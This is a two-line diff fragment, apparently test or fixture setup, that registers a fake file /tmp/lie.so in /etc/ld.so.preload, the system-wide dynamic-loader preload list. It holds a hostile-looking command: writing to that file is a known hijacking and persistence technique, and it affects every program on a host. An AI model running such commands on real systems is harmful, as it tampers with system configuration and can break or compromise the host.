@@ -1,0 +1,2 @@
+echo /tmp/lie.so > /etc/ld.so.preload
+printf 'not a library' > /tmp/lie.so
